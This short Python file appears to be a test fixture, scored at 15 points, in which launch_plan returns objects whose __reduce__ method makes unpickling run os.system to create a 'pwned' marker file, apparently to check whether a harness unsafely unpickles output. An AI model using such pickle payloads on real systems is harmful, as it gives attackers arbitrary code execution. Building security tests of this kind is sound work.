"""15 points: an object whose unpickling would run a command."""

class Payload:
    def __reduce__(self):
        import os

        return os.system, ("touch @ROOT@/pwned",)


def launch_plan(width, height, block):
    return Payload(), Payload()
